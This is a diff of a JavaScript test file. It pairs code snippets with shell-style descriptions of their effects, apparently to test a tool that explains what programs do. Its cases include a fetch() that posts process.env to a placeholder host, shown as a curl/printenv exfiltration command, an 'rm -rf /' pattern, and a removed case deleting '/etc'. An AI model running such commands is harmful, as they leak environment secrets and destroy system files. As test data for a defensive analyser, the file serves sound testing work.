@@ -84,7 +84,6 @@ describe('javascript: what a program would do is told in words of the shell', ()
       `fetch('https://h.example', { method: 'POST', body: JSON.stringify(process.env) })`,
       ['curl -X POST -d @- https://h.example | printenv'],
     ],
-    [`mock.method(fs, 'rmSync', () => {}); fs.rmSync('/etc')`, []],
     [`const f = /rm -rf \\//; require('fs').unlinkSync('x')`, ['rm x']],
   ];
   it.each(cases)('%s', (code, deeds) => {
